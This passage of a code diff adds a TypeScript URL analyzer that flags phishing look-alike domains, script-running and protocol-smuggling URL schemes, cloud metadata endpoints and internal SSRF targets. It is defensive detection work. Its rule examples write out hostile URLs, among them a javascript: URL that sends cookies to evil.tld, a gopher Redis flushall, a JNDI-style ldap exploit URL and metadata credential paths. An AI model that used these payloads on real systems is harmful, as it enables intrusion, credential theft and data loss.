@@ -1,11 +1,1115 @@
-import { plainContext } from '../context.js';
-import type { Analyzer } from '../types.js';
+import { decodeBase64Runs, decodeEntities, hasBidiControl, isPlainAscii, metaString, percentDecode } from '../normalize.js';
+import {
+  BRAND_NAMES, CATCHER_HOSTS, CHAT_CDN, CONTENT_SITES, DROP_HOSTS, FILE_LIKE_TLDS, FREE_HOSTING, IP_LOGGERS, OOB_HOSTS,
+  DYNAMIC_DNS, STORAGE_HOSTS, PASTE_HOSTS, RISKY_TLDS, SHORTENERS, SOFTWARE_SITES, SUBSTRING_NAMES, TENANT_SAAS, TUNNEL_HOSTS, TYPO_BRANDS, ownerOf,
+} from '../parse/url-intel.js';
+import { URL_FOLD_PATTERNS, URL_PARSE_PATTERNS, cleanUrlText, foldTypoGlyphs, foldUnicodeLabel, glyphKey, parseUrl, scriptOf, typoOf, type ParsedUrl } from '../parse/url-parse.js';
+import type { Analyzer, BaseContext, Finding, Metadata } from '../types.js';
 
-/** url analyzer (U): rule table pending. */
-const urlAnalyzer: Analyzer = {
+interface BrandHit {
+  brand: string;
+  /** How the brand shows up: a typo of it, a homoglyph spelling, or the name inside a longer host. */
+  how: 'typo' | 'glyph' | 'homograph' | 'domain-in-subdomain' | 'token' | 'substring';
+  detail: string;
+}
+
+interface UrlContext extends BaseContext {
+  readonly u: ParsedUrl;
+  /** Brand that owns the registrable domain, if any. */
+  readonly owner: string | null;
+  /** Decoded path + query + fragment, lower-cased: where payloads live. */
+  readonly tail: string;
+  readonly brand: BrandHit | null;
+  /** A lure word ("login", "verify", "wallet") in the host. */
+  readonly hostLure: string | null;
+  /** A lure word as a path segment (not inside a long prose slug). */
+  readonly pathLure: string | null;
+  /** A brand named in the path or query of a domain that brand does not own. */
+  readonly pathBrand: string | null;
+  readonly untrusted: boolean;
+  /** Internal host names (*.internal, *.svc.cluster.local) when not an IP. */
+  readonly internalName: string | null;
+}
+
+/** Code-hosting pages where an org named exactly like a brand is that brand (google.github.io). */
+const ORG_PAGES = new Set(['github.io', 'gitlab.io', 'readthedocs.io', 'gitbook.io', 'atlassian.net', 'zendesk.com']);
+
+const HOST_LURES = [
+  'login', 'logon', 'signin', 'verify', 'verification', 'validate', 'secure', 'security', 'account', 'update', 'unlock',
+  'suspend', 'recover', 'restore', 'billing', 'support', 'refund', 'tracking', 'parcel', 'delivery', 'redeliver', 'customs',
+  'airdrop', 'giveaway', 'reward', 'bonus', 'claim', 'webscr', 'authenticate', 'confirm', 'wallet', 'helpdesk', 'service',
+  'alert', 'notice', 'payment', 'invoice', 'locked', 'auth', 'session', 'gift', 'promo', 'free', 'prize', 'kyc', 'password',
+  'id', 'help', 'online', 'portal', 'center', 'check', 'web', 'mail', 'team', 'pay', 'bank', 'app', 'sso', 'mfa', '2fa',
+];
+const STRONG_HOST_LURES = new Set(['login', 'logon', 'signin', 'verify', 'verification', 'validate', 'secure', 'account', 'update', 'unlock', 'suspend', 'recover', 'restore', 'billing', 'refund', 'webscr', 'authenticate', 'confirm', 'wallet', 'locked', 'password', 'kyc', 'airdrop', 'giveaway', 'claim']);
+/** Generic words that only count as a whole hyphen token ("apple-id", "chase-bank"), never inside another word. */
+const SHORT_HOST_LURES = new Set(['id', 'auth', 'gift', 'free', 'kyc', 'web', 'mail', 'team', 'pay', 'bank', 'app', 'sso', 'mfa', '2fa', 'help', 'online', 'portal', 'center', 'check', 'service', 'alert', 'notice', 'claim', 'bonus', 'promo', 'prize']);
+const HOST_LURE_RE = new RegExp(HOST_LURES.filter((w) => w.length >= 5 && !SHORT_HOST_LURES.has(w)).join('|'));
+const PATH_LURES = new Set([
+  'login', 'logon', 'signin', 'sign-in', 'log-in', 'signon', 'verify', 'verification', 'validate', 'validation', 'confirm',
+  'unlock', 'suspended', 'locked', 'recover', 'recovery', 'restore', 'webscr', 'authenticate', 'authentication', 'auth', 'billing',
+  'wallet', 'walletconnect', 'seed', 'airdrop', 'claim', 'kyc', '2fa', 'mfa', 'otp', 'password', 'passwd', 'credentials',
+  'credential', 'secure', 'security', 'account', 'accounts', 'update', 'reactivate', 'sso', 'session', 'sms', 'giveaway', 'redeliver', 'redelivery',
+]);
+/** Path lures that are only lures next to another lure ("account/update"), not alone ("/account" is everywhere). */
+const WEAK_PATH_LURES = new Set(['secure', 'security', 'account', 'accounts', 'update', 'session', 'sms', 'auth', 'password']);
+const WALLET_DRAIN = /(?:seed|secret|recovery|mnemonic)[-_ ]{0,2}(?:phrase|words|key)|(?:connect|import|restore|sync|validate|rectify)[-_ ]{0,2}wallet|wallet[-_ ]{0,2}(?:connect|import|restore|sync|validate|rectify|verify)|walletconnect|private[-_ ]{0,2}key/;
+
+const WALLET_HINT = /wallet|phrase|seed|mnemonic|private|recovery|secret/;
+/** Every path lure contains one of these stems: paths without any skip the segment walk. */
+const PATH_LURE_HINT = /log|sign|verif|valid|confirm|lock|suspend|recover|restore|webscr|auth|bill|wallet|seed|airdrop|claim|kyc|2fa|mfa|otp|pass|credential|secur|account|update|session|sms|giveaway|redeliver/;
+const PAGE_EXT = /\.(?:php[0-9]?|html?|aspx?|jsp|cgi|do|action)$/;
+const TOKEN_SPLIT = /[-_.+ ]/;
+const INTERNAL_NAME = /(?:\.internal|\.local|\.localdomain|\.corp|\.lan|\.intranet|\.home\.arpa|\.svc|\.cluster\.local|\.consul|\.priv|\.private)$/;
+/** Names Docker Desktop gives the developer's own machine. */
+const DOCKER_HOST_NAMES = new Set(['host.docker.internal', 'gateway.docker.internal', 'kubernetes.docker.internal', 'host.containers.internal', 'host.lima.internal']);
+const METADATA_NAMES = new Set(['metadata.google.internal', 'metadata.goog', 'metadata', 'instance-data', 'instance-data.ec2.internal', 'metadata.azure.internal', 'metadata.tencentyun.com', 'metadata.packet.net', 'metadata.platformequinix.com']);
+const UNTRUSTED_SOURCES = /\b(?:email|e-mail|mail|sms|text message|chat|dm|qr|pdf|document|attachment|web ?page|search result|tool[ _-]?output|scraped|comment|post|tweet|ticket|issue|untrusted|third[ -]party|external|inbound|user[ _-]?content)\b/;
+
+const auxPatterns: RegExp[] = [HOST_LURE_RE, ...URL_PARSE_PATTERNS, ...URL_FOLD_PATTERNS, WALLET_DRAIN, WALLET_HINT, PATH_LURE_HINT, PAGE_EXT, TOKEN_SPLIT, INTERNAL_NAME, UNTRUSTED_SOURCES];
+const aux = <T extends RegExp>(re: T): T => {
+  auxPatterns.push(re);
+  return re;
+};
+
+function prepare(value: string, metadata: Metadata): UrlContext {
+  const clean = cleanUrlText(value);
+  const u = parseUrl(clean);
+  const owner = u.domain === '' ? null : ownerOf(u.domain, u.label, u.suffix, u.platform);
+  // the haystack: the whole value, decoded, so keyword gates see encoded payloads too
+  let text = value.length > 65536 || isPlainAscii(value) ? value : value.normalize('NFKC');
+  if (text.includes('%')) text = percentDecode(text, 2);
+  if (text.includes('&#') || text.includes(';')) text = decodeEntities(text);
+  const lower = text.toLowerCase();
+  const tail = `${u.path}${u.query === '' ? '' : `?${u.query}`}${u.fragment === '' ? '' : `#${u.fragment}`}${u.opaque === '' ? '' : u.opaque}`.toLowerCase();
+  const source = (metaString(metadata, 'source', 'origin', 'from', 'channel', 'context', 'provenance', 'found_in', 'foundIn') ?? '').toLowerCase();
+  const untrusted = source !== '' && UNTRUSTED_SOURCES.test(source.slice(0, 200));
+  const hostLabels = u.ip === null && u.host !== '' ? u.host.split('.', 64) : [];
+  const hostLure = u.ip === null ? findHostLure(hostLabels) : null;
+  const pathLure = findPathLure(u);
+  const brand = owner === null && u.host !== '' && u.ip === null ? findBrand(u, hostLure) : null;
+  const pathBrand = owner === null && !CONTENT_SITES.has(u.site) && !CONTENT_SITES.has(u.host) ? findPathBrand(u) : null;
+  const internalName = u.ip === null && u.host !== '' && !DOCKER_HOST_NAMES.has(u.host) && (INTERNAL_NAME.test(u.host) || u.host === 'kubernetes.default' || u.host === 'kubernetes') ? u.host : null;
+  return { raw: value, text, lower, metadata, u, owner, tail, brand, hostLure, pathLure, pathBrand, untrusted, internalName };
+}
+
+function findHostLure(labels: readonly string[]): string | null {
+  for (const l of labels) {
+    const m = HOST_LURE_RE.exec(l);
+    if (m !== null) return m[0];
+    if (!l.includes('-')) {
+      if (SHORT_HOST_LURES.has(l)) return l;
+      continue;
+    }
+    for (const t of l.split('-', 16)) if (SHORT_HOST_LURES.has(t)) return t;
+  }
+  return null;
+}
+
+/** Brands of length n-1..n+1 for a label of length n (typo candidates), precomputed. */
+const TYPO_BY_LEN: string[][] = [];
+for (const n of TYPO_BRANDS) for (let d = -1; d <= 1; d++) (TYPO_BY_LEN[n.length + d] ??= []).push(n);
+function typoCandidates(len: number): readonly string[] {
+  return TYPO_BY_LEN[len] ?? [];
+}
+const SUBSTRING_RE = aux(new RegExp([...SUBSTRING_NAMES].sort((a, b) => b.length - a.length).join('|')));
+const BRAND_WORD_RE = aux(new RegExp([...BRAND_NAMES.keys()].sort((a, b) => b.length - a.length).join('|')));
+
+/** Look-alike key of every brand name (glyphKey) → the name. */
+const GLYPH_BRANDS = new Map<string, string>();
+for (const n of BRAND_NAMES.keys()) if (!isWordName(n) && n.length >= 5) GLYPH_BRANDS.set(glyphKey(n), n);
+
+/** Lure words as whole path segments or short compounds; a long prose slug ("how-to-login-to-x") is not a lure. */
+function findPathLure(u: ParsedUrl): string | null {
+  const all = `${u.path}/${u.fragment}`.toLowerCase();
+  if (all.length < 3 && u.params.length === 0) return null;
+  const walletish = WALLET_HINT.test(all);
+  if (!walletish && !PATH_LURE_HINT.test(all) && u.params.length === 0) return null;
+  const segs = all.split('/', 32);
+  let weak: string | null = null;
+  for (const raw of segs) {
+    const seg = raw.includes('.') ? raw.replace(PAGE_EXT, '') : raw;
+    if (seg === '') continue;
+    if (walletish && WALLET_DRAIN.test(seg)) return seg.slice(0, 40);
+    if (PATH_LURES.has(seg)) {
+      if (!WEAK_PATH_LURES.has(seg)) return seg;
+      if (weak !== null && weak !== seg) return `${weak}/${seg}`;
+      weak = seg;
+      continue;
+    }
+    const toks = seg.split(TOKEN_SPLIT, 8);
+    if (toks.length > 3) continue;
+    let strong: string | null = null;
+    let weakCount = 0;
+    for (const t of toks) {
+      if (PATH_LURES.has(t) && !WEAK_PATH_LURES.has(t)) strong = t;
+      else if (WEAK_PATH_LURES.has(t)) weakCount++;
+    }
+    if (strong !== null) return seg;
+    if (weakCount >= 2) return seg;
+  }
+  for (const [k, v] of u.params) {
+    if (k === 'cmd' && (v.includes('login') || v.includes('_s-xclick') || v.includes('verify'))) return `cmd=${v.slice(0, 20)}`;
+  }
+  return null;
+}
+
+function isWordName(n: string): boolean {
+  const b = BRAND_NAMES.get(n);
+  return b !== undefined && ((b.word === true && b.name === n) || n === 'live' || n === 'office' || n === 'outlook');
+}
+
+/** How the host impersonates a brand it does not belong to. */
+function findBrand(u: ParsedUrl, hostLure: string | null): BrandHit | null {
+  const label = u.label;
+  if (u.domain === '' || u.label === '') return null;
+  // IDN: what the label looks like to a reader
+  if (u.unicodeHost !== u.host) {
+    const uLabel = u.unicodeHost.split('.').slice(-(1 + u.suffix.split('.').length))[0] ?? '';
+    const folded = foldUnicodeLabel(uLabel);
+    if (folded !== uLabel) {
+      if (BRAND_NAMES.has(folded)) return { brand: folded, how: 'homograph', detail: `${u.unicodeHost} (${u.host}) imitates ${folded}` };
+      for (const n of [...TYPO_BRANDS, ...SUBSTRING_NAMES]) {
+        if ( (n.length >= 5 && folded.includes(n)) || typoOf(folded, n) !== null) {
+          return { brand: n, how: 'homograph', detail: `${u.unicodeHost} (${u.host}) imitates ${n}` };
+        }
+      }
+    }
+  }
+  const tokens = label.split('-', 16);
+  const candidates = tokens.length > 1 ? [label, ...tokens] : [label];
+  for (const c of candidates) {
+    if (c.length < 4) continue;
+    for (const n of typoCandidates(c.length)) {
+      const t = typoOf(c, n);
+      if (t !== null) return { brand: n, how: 'typo', detail: `${u.domain} is ${n} with a ${t}` };
+    }
+    const key = glyphKey(c);
+    if (key !== c) {
+      const n = GLYPH_BRANDS.get(key);
+      if (n !== undefined && n !== c && !BRAND_NAMES.has(c)) return { brand: n, how: 'glyph', detail: `${u.domain} spells ${n} with look-alike characters` };
+    }
+  }
+  // a whole brand domain in front of someone else's ("paypal.com.secure-login.xyz", "www.paypal.com-account.info")
+  const subs = u.subLabels;
+  const tenant = TENANT_SAAS.has(u.domain) || TENANT_SAAS.has(u.site) || TENANT_SAAS.has(u.suffix);
+  for (let i = 0; i < subs.length; i++) {
+    const s = subs[i]!;
+    const b = BRAND_NAMES.get(s);
+    const next = subs[i + 1] ?? label;
+    if (b !== undefined && (next === 'com' || next === 'net' || next === 'org' || next.startsWith('com-') || next === 'co')) {
+      return { brand: s, how: 'domain-in-subdomain', detail: `${s}.${next} placed in front of ${u.domain}` };
+    }
+  }
+  if (label.startsWith('com-') || label.startsWith('net-')) {
+    const before = subs[subs.length - 1];
+    if (before !== undefined && BRAND_NAMES.has(before)) return { brand: before, how: 'domain-in-subdomain', detail: `${before}.${label.slice(0, 3)} placed in front of ${u.domain}` };
+  }
+  // brand as a token or inside a label of someone else's host
+  const labels = tenant ? [label] : [...subs, label];
+  for (const l of labels) {
+    for (const t of l.split('-', 16)) {
+      const b = BRAND_NAMES.get(t);
+      if (b === undefined) continue;
+      if (isWordName(t) && hostLure === null) continue;
+      if (t === label && (!u.platform || ORG_PAGES.has(u.suffix)) && !RISKY_TLDS.has(u.suffix)) continue;
+      return { brand: t, how: 'token', detail: `"${t}" in ${u.host}` };
+    }
+    if (l.length > 5) {
+      const m = SUBSTRING_RE.exec(l);
+      if (m !== null && l !== m[0]) return { brand: m[0], how: 'substring', detail: `"${m[0]}" inside ${u.host}` };
+    }
+  }
+  return null;
+}
+
+
+function findPathBrand(u: ParsedUrl): string | null {
+  if (u.path.length < 3) return null;
+  const lp = u.path.toLowerCase();
+  if (!BRAND_WORD_RE.test(lp)) return null;
+  const segs = lp.split('/', 32);
+  for (const seg of segs) {
+    if (seg === '') continue;
+    const s = seg.replace(PAGE_EXT, '');
+    const toks = s.split(TOKEN_SPLIT, 8);
+    if (toks.length > 4) continue;
+    for (const t of toks) {
+      if (BRAND_NAMES.has(t) && !isWordName(t)) return t;
+    }
+    if (toks.length <= 3) for (const t of toks) if (BRAND_NAMES.has(t)) return t;
+  }
+  return null;
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// helpers shared by rules
+
+const isInternalClass = (cls: string) => cls === 'private' || cls === 'loopback' || cls === 'linklocal' || cls === 'cgnat' || cls === 'unspecified' || cls === 'metadata';
+/** Public resolvers people browse to by address (their home pages live there). */
+const WELL_KNOWN_IPS = new Set(['1.1.1.1', '1.0.0.1', '8.8.8.8', '8.8.4.4', '9.9.9.9', '149.112.112.112', '208.67.222.222', '208.67.220.220']);
+const DEV_PORTS = new Set([3000, 3001, 3002, 4000, 4200, 4321, 5000, 5001, 5173, 5174, 5500, 6006, 8000, 8001, 8008, 8080, 8081, 8787, 8888, 9000, 9229, 1234, 4173, 19006, 8443, 443, 80, 7860, 8501, 4040, 3333, 9090]);
+/** Non-web services that an http(s) request to an internal address only reaches to smuggle a protocol. */
+const SERVICE_PORTS = new Map<number, string>([
+  [22, 'SSH'], [23, 'Telnet'], [25, 'SMTP'], [111, 'rpcbind'], [135, 'MSRPC'], [139, 'NetBIOS'], [445, 'SMB'], [2375, 'Docker API'],
+  [2376, 'Docker API'], [2379, 'etcd'], [3306, 'MySQL'], [5432, 'PostgreSQL'], [5984, 'CouchDB'], [6379, 'Redis'], [6443, 'Kubernetes API'],
+  [8500, 'Consul'], [9200, 'Elasticsearch'], [9300, 'Elasticsearch'], [10250, 'kubelet'], [10255, 'kubelet'], [11211, 'memcached'],
+  [27017, 'MongoDB'], [1433, 'MSSQL'], [1521, 'Oracle'], [4369, 'Erlang epmd'], [5672, 'AMQP'], [8086, 'InfluxDB'], [50070, 'HDFS'],
+  [2181, 'ZooKeeper'], [9092, 'Kafka'], [15672, 'RabbitMQ admin'], [8983, 'Solr'], [4444, 'Selenium/JMX'], [5985, 'WinRM'], [5986, 'WinRM'],
+]);
+const ADMIN_PATH = aux(/^\/(?:actuator(?:\/|$)|server-status|server-info|manager\/html|jolokia|debug\/pprof|_cat\/|_cluster\/|_nodes|_all_dbs|_search|v1\/agent\/|v1\/kv\/|v2\/keys|v3\/kv|api\/v1\/namespaces|api\/v1\/secrets|apis\/|containers\/json|images\/json|\.env$|env$|heapdump|console|solr\/admin|admin(?:\/|$)|phpmyadmin|wp-admin|metrics\/|latest\/|computemetadata|openapi\/v2|pods|exec|run\/|jmx|hystrix|gateway\/routes|druid|nacos|swagger-ui)/);
+/** Paths on the developer's own machine that still only matter to an attacker (secrets, heap dumps, container control). */
+const LOOPBACK_ADMIN_PATH = aux(/^\/(?:actuator\/(?:env|heapdump|jolokia|gateway|threaddump)|jolokia|server-status|manager\/html|debug\/pprof|containers\/json|containers\/create|v1\/kv\/|v2\/keys|v3\/kv|api\/v1\/secrets|api\/v1\/namespaces\/[a-z0-9-]{1,63}\/secrets|\.env$|heapdump|computemetadata|\.git\/config|\.aws\/)/);
+const HTTP_API_PORTS = new Set([2375, 2376, 2379, 5984, 6443, 8500, 9200, 9300, 10250, 10255, 8086, 50070, 15672, 8983, 4444, 5985, 5986]);
+const SENSITIVE_FILE = aux(/(?:^|\/)(?:etc\/(?:passwd|shadow|group|hosts|sudoers|issue|crontab)|proc\/self\/(?:environ|cmdline|maps|mem)|\.ssh\/|id_rsa|id_ed25519|\.aws\/credentials|\.aws\/config|\.kube\/config|\.docker\/config\.json|\.git-credentials|\.netrc|\.npmrc|\.pypirc|\.env(?:$|\.)|\.bash_history|\.pgpass|wp-config\.php|web\.config|windows\/win\.ini|win\.ini|boot\.ini|system32\/config\/sam|config\/sam|\.gnupg\/|keychains?\/|login\.keychain|var\/run\/secrets|var\/log\/|root\/|microsoft\/credentials|microsoft\/protect|user data\/default|login data|\.mozilla\/firefox|library\/keychains)/);
+
+function hostRiskBonus(ctx: UrlContext): { bonus: number; why: string } {
+  const u = ctx.u;
+  let bonus = 0;
+  const why: string[] = [];
+  if (u.ip !== null && u.ip.cls === 'public') {
+    bonus += 2;
+    why.push('raw IP host');
+  }
+  if (RISKY_TLDS.has(u.suffix)) {
+    bonus += 2;
+    why.push(`.${u.suffix} domain`);
+  }
+  if (SHORTENERS.has(u.domain) || FREE_HOSTING.has(u.suffix) || FREE_HOSTING.has(u.domain) || CHAT_CDN.has(u.host)) {
+    bonus += 2;
+    why.push(CHAT_CDN.has(u.host) ? 'chat attachment CDN' : SHORTENERS.has(u.domain) ? 'behind a shortener' : 'free hosting');
+  }
+  if (DYNAMIC_DNS.has(u.suffix) || DYNAMIC_DNS.has(u.site)) {
+    bonus += 2;
+    why.push('dynamic-DNS host');
+  }
+  if (ctx.brand !== null) {
+    bonus += 3;
+    why.push('look-alike host');
+  }
+  if (u.port !== null && u.scheme.startsWith('http') && !DEV_PORTS.has(u.port) && u.ip !== null) bonus += 1;
+  if (ctx.untrusted) {
+    bonus += 1;
+    why.push('link from an untrusted source');
+  }
+  return { bonus, why: why.join(', ') };
+}
+
+const lastSegment = (path: string): string => {
+  const i = path.lastIndexOf('/');
+  return (i === -1 ? path : path.slice(i + 1)).toLowerCase();
+};
+
+const EXEC_EXT = aux(/\.(exe|scr|msi|msix|msixbundle|appx|appxbundle|appinstaller|bat|cmd|com|pif|cpl|hta|vbs|vbe|jse|wsf|wsh|ps1|psm1|lnk|reg|jar|apk|xapk|dmg|pkg|iso|img|vhd|vhdx|dll|sh|run|bin|elf|deb|rpm|docm|xlsm|pptm|xlam|one|chm|application|xll|scf|url|library-ms|searchconnector-ms|js|mjs|arm[4-7]?|mips|mpsl|x86|x86_64|i[3-6]86|ppc|m68k|sh4|spc|arc)$/);
+const DOC_EXT = aux(/\.(?:pdf|docx?|xlsx?|pptx?|txt|rtf|jpe?g|png|gif|csv|odt|mp3|mp4|avi|zip|rar|html?)[\s_.-]{0,30}\.(?:exe|scr|com|bat|cmd|pif|hta|vbs|js|jse|wsf|lnk|msi|ps1|jar|cpl|apk|iso|img|app)$/);
+
+// ---------------------------------------------------------------------------------------------------------------
+
+const urlAnalyzer: Analyzer<UrlContext> = {
   type: 'url',
   letter: 'U',
-  prepare: plainContext,
-  rules: [],
+  prepare,
+  rules: [
+    {
+      id: 'U01',
+      name: 'Script-executing URL scheme',
+      primitive: 'ESCALATION',
+      score: 9,
+      detect: (ctx) => {
+        const s = ctx.u.scheme;
+        if (s === 'javascript' || s === 'vbscript' || s === 'livescript' || s === 'mocha') return `${s}: URL runs code in the page that opens it`;
+        // "%6Aavascript:" or "java\0script:" only decode into a scheme inside a sloppy sink: still an attempt
+        const h = ctx.lower.slice(0, 64);
+        if ((!ctx.u.hadScheme || s === 'http' || s === 'https') && h.includes('script')) {
+          const head = h.replace(NOT_SCHEME_CHAR, '');
+          if (head.startsWith('javascript:') || head.startsWith('vbscript:')) return { detail: 'obfuscated javascript:/vbscript: scheme', score: 8 };
+        }
+        return null;
+      },
+      examples: {
+        flag: ['javascript:alert(document.cookie)', 'JaVaScRiPt:fetch("//evil.tld?c="+document.cookie)', ' java\tscript:alert(1)', '&#106;avascript&colon;alert(1)', 'vbscript:msgbox("x")'],
+        pass: ['https://developer.mozilla.org/en-US/docs/Web/JavaScript', 'https://javascript.info/', 'https://www.w3schools.com/js/js_whereto.asp'],
+      },
+    },
+    {
+      id: 'U02',
+      name: 'data: URL carrying an HTML page or script',
+      primitive: 'ESCALATION',
+      score: 8,
+      detect: (ctx) => {
+        if (ctx.u.scheme !== 'data') return null;
+        const head = ctx.u.opaque.slice(0, 80).toLowerCase().replace(WS, '');
+        if (head.startsWith('text/html') || head.startsWith('application/xhtml') || head.startsWith('image/svg') || head.includes('javascript') || head.startsWith('text/xml') || head.startsWith('application/xml') || head.startsWith('text/ecmascript') || head.startsWith('application/ecmascript')) {
+          return `data: URL with ${head.split(MEDIA_END)[0] || 'markup'} content (a phishing page or script that needs no server)`;
+        }
+        if (head.startsWith('application/octet-stream') || head.startsWith('application/x-msdownload') || head.startsWith('application/x-msdos') || head.startsWith('application/hta') || head.startsWith('application/x-sh')) {
+          return { detail: `data: URL smuggling a ${head.split(MEDIA_END)[0]} download`, score: 6 };
+        }
+        if (head.startsWith(',') || head.startsWith(';base64,') || head.startsWith('text/plain')) {
+          // no type means text/plain, but browsers of old sniffed it; look at the payload
+          const payload = ctx.lower.slice(0, 4096);
+          if (payload.includes('<script') || payload.includes('<iframe') || payload.includes('onerror=') || payload.includes('onload=')) return { detail: 'data: URL with script markup', score: 7 };
+        }
+        return null;
+      },
+      examples: {
+        flag: ['data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:text/html,<form action=https://evil.tld/p><input name=pass type=password>', 'DATA:image/svg+xml,<svg onload=alert(1)>', 'data:application/octet-stream;base64,TVqQAAMAAAAEAAAA'],
+        pass: ['data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'data:text/plain;charset=utf-8,hello%20world', 'https://example.com/data/text/html'],
+      },
+    },
+    {
+      id: 'U03',
+      name: 'file: URL reading the local disk or a remote share',
+      primitive: 'EXFILTRATION',
+      score: 3,
+      detect: (ctx) => {
+        const u = ctx.u;
+        if (u.scheme !== 'file') return null;
+        const path = u.path.toLowerCase().replace(BACKSLASH, '/');
+        if (SENSITIVE_FILE.test(path)) return { detail: `file: URL to a sensitive file (${path.slice(0, 60)})`, score: 8 };
+        if (u.host !== '' && u.host !== 'localhost' && u.host !== '127.0.0.1') return { detail: `file: URL to remote share on ${u.host} (leaks NTLM credentials on Windows)`, score: 7 };
+        return `file: URL to ${path.slice(0, 60) || 'the local disk'}`;
+      },
+      examples: {
+        flag: ['file:///etc/passwd', 'file://attacker.example/share/doc.lnk', 'FILE:///C:/Windows/win.ini', 'file:///home/dev/.aws/credentials'],
+        pass: ['https://example.com/file/etc/passwd-explained', 'https://docs.python.org/3/library/pathlib.html'],
+      },
+    },
+    {
+      id: 'U04',
+      name: 'Protocol-smuggling scheme (gopher, dict, ldap, php filters)',
+      primitive: 'EXFILTRATION',
+      score: 7,
+      detect: (ctx) => {
+        const s = ctx.u.scheme;
+        const risky = ['gopher', 'dict', 'ldap', 'ldaps', 'tftp', 'jar', 'netdoc', 'php', 'phar', 'expect', 'zip', 'glob', 'data+', 'rmi', 'iiop', 'jndi', 'smb', 'zlib', 'compress.zlib', 'ogg', 'rar', 'ssh2.exec', 'ssh2.shell'];
+        if (!risky.includes(s)) return null;
+        const internal = ctx.u.ip !== null && isInternalClass(ctx.u.ip.cls);
+        return { detail: `${s}:// URL${ctx.u.host ? ` to ${ctx.u.host}` : ''} (lets a server-side fetch speak another protocol)`, score: internal || s === 'php' || s === 'phar' || s === 'expect' ? 8 : s === 'smb' || s === 'ldaps' ? 4 : 7 };
+      },
+      examples: {
+        flag: ['gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall', 'dict://localhost:11211/stats', 'php://filter/convert.base64-encode/resource=index.php', 'ldap://attacker.tld:1389/Exploit', 'jar:http://evil.tld/x.jar!/'],
+        pass: ['https://en.wikipedia.org/wiki/Gopher_(protocol)', 'https://www.php.net/manual/en/wrappers.php.php', 'ftp://ftp.gnu.org/gnu/'],
+      },
+    },
+    {
+      id: 'U05',
+      name: 'Operating-system protocol handler that launches a program',
+      primitive: 'ESCALATION',
+      score: 8,
+      detect: (ctx) => {
+        const s = ctx.u.scheme;
+        const opaque = (ctx.u.opaque || ctx.tail).toLowerCase();
+        if (s === 'ms-msdt' || s === 'search-ms' || s === 'search' || s === 'ms-officecmd' || s === 'ms-cxh' || s === 'ms-cxh-full' || s === 'hcp' || s === 'shell' || s === 'mhtml' || s === 'ms-its' || s === 'its' || s === 'res' || s === 'ms-appinstaller' || s === 'ms-installer') {
+          return `${s}: handler (known code-execution or payload-fetch vector)`;
+        }
+        if ((s === 'ms-word' || s === 'ms-excel' || s === 'ms-powerpoint' || s === 'ms-visio' || s === 'ms-access' || s === 'ms-publisher') && (opaque.includes('|u|') || opaque.includes('|http'))) return `${s}: handler opening a remote document`;
+        if (s === 'itms-services' && opaque.includes('download-manifest')) return { detail: 'itms-services: enterprise app sideload', score: 7 };
+        if (s === 'intent' && (opaque.includes('scheme=') || opaque.includes('package='))) return null;
+        return null;
+      },
+      examples: {
+        flag: ['ms-msdt:/id PCWDiagnostic /skip force /param "IT_BrowseForFile=?"', 'search-ms:query=invoice&crumb=location:\\\\evil.tld@80\\share', 'ms-excel:ofe|u|https://evil.tld/payload.xlsm', 'itms-services://?action=download-manifest&url=https://evil.tld/app.plist'],
+        pass: ['https://support.microsoft.com/en-us/topic/ms-msdt-guidance', 'mailto:team@example.com?subject=search-ms', 'ms-settings:display'],
+      },
+    },
+    {
+      id: 'U06',
+      name: 'Cloud instance metadata endpoint',
+      primitive: 'EXFILTRATION',
+      score: 9,
+      detect: (ctx) => {
+        const u = ctx.u;
+        const meta = (u.ip !== null && u.ip.cls === 'metadata') || METADATA_NAMES.has(u.host);
+        if (!meta) return null;
+        const t = ctx.tail;
+        const creds = t.includes('security-credentials') || t.includes('service-accounts') || t.includes('/token') || t.includes('identity') || t.includes('user-data') || t.includes('ram/security') || t.includes('credentials');
+        return { detail: `${u.ip?.canonical ?? u.host}${creds ? ' credential path' : ''} (instance metadata: cloud credentials)`, score: creds ? 10 : 9 };
+      },
+      examples: {
+        flag: ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', 'http://[fd00:ec2::254]/latest/meta-data/', 'http://100.100.100.200/latest/meta-data/', 'http://2852039166/latest/meta-data/', 'http://169.254.169.254.nip.io/'],
+        pass: ['https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html', 'http://169.254.1.10/', 'https://cloud.google.com/compute/docs/metadata/overview'],
+      },
+    },
+    {
+      id: 'U07',
+      name: 'Internal network address (server-side request forgery target)',
+      primitive: 'EXFILTRATION',
+      score: 3,
+      detect: (ctx) => {
+        const u = ctx.u;
+        const cls = u.ip?.cls;
+        if (cls === 'metadata') return null;
+        const internal = cls !== undefined && isInternalClass(cls);
+        if (!internal && ctx.internalName === null && !(u.host !== '' && !u.host.includes('.') && u.ip === null && u.scheme !== 'file' && u.hadScheme)) return null;
+        if (u.scheme === 'file' || u.scheme === 'mailto') return null;
+        const loop = cls === 'loopback' || (cls === 'unspecified' && (u.port === null || DEV_PORTS.has(u.port)));
+        const single = !internal && ctx.internalName === null;
+        let score = loop || single ? 0 : cls === 'unspecified' ? 4 : 3;
+        const notes: string[] = [];
+        const service = u.port !== null ? SERVICE_PORTS.get(u.port) : undefined;
+        const web = u.scheme === '' || u.scheme === 'http' || u.scheme === 'https' || u.scheme === 'ws' || u.scheme === 'wss' || u.scheme === 'gopher' || u.scheme === 'dict';
+        if (service !== undefined && web) {
+          // on the developer's own machine an HTTP API (Elasticsearch, Consul) is routine; a raw protocol port is not
+          const add = loop || single ? (HTTP_API_PORTS.has(u.port!) ? 0 : 5) : 4;
+          if (add > 0) {
+            score += add;
+            notes.push(`${service} port ${u.port}`);
+          }
+        }
+        const path = u.path.toLowerCase();
+        if (path.length > 1 && (loop || single ? LOOPBACK_ADMIN_PATH.test(path) : ADMIN_PATH.test(path))) {
+          score += loop || single ? 3 : 3;
+          notes.push(`admin path ${path.slice(0, 40)}`);
+        }
+        if (ctx.internalName !== null && (ctx.internalName.includes('kubernetes') || ctx.internalName.includes('vault') || ctx.internalName.includes('consul'))) {
+          score += 2;
